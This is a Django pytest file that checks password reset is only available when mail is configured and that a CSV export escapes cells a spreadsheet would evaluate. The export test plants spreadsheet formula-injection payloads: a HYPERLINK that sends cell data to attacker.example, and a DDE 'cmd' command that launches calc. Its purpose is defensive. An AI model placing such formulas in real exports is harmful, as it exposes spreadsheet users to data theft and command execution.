"""Loose ends: password reset only where mail can go out (and then it works); the CSV export escapes cells a
spreadsheet would run as formulas."""

import csv
import io
import re

import pytest
from django.test import override_settings

from catalog.models import Notification


def test_password_reset_is_off_without_mail(client, user_in_role, mailoutbox):
    user_in_role("viewer")
    assert client.get("/accounts/password_reset/").status_code == 404
    response = client.post("/accounts/password_reset/", {"email": "viewer@example.com"})
    assert response.status_code == 404
    assert mailoutbox == []
    assert client.get("/accounts/login/").status_code == 200  # the rest of the account pages stay


@override_settings(PASSWORD_RESET_ENABLED=True)
def test_password_reset_works_when_mail_is_configured(client, user_in_role, mailoutbox):
    user = user_in_role("viewer")
    response = client.post("/accounts/password_reset/", {"email": "viewer@example.com"})
    assert response.status_code == 302
    [mail] = mailoutbox
    link = re.search(r"http://testserver(/accounts/reset/\S+/)", mail.body).group(1)
    form = client.get(link, follow=True)
    assert form.status_code == 200
    new = "a brand new passphrase"
    done = client.post(form.redirect_chain[-1][0], {"new_password1": new, "new_password2": new})
    assert done.status_code == 302 and done["Location"] == "/accounts/reset/done/"
    user.refresh_from_db()
    assert user.check_password(new)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t"])
def test_the_csv_export_escapes_formula_cells(client, small_catalog, user_in_role, lead):
    Notification.objects.filter(pk=small_catalog.digest.pk).update(
        name=f'{lead}HYPERLINK("https://attacker.example/?x="&A1,"open")', tags=[f"{lead}cmd|' /C calc'!A0"]
    )
    client.force_login(user_in_role("viewer"))
    response = client.get("/notifications/export.csv")
    assert response.status_code == 200
    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(response.getvalue().decode()))}
    digest = rows["weekly_digest"]
    assert digest["name"].startswith(f"'{lead}HYPERLINK")
    assert digest["tags"].startswith(f"'{lead}cmd")
    assert rows["receipt"]["name"] == "Receipt"  # ordinary cells are left alone
    assert digest["errors"] == "0"
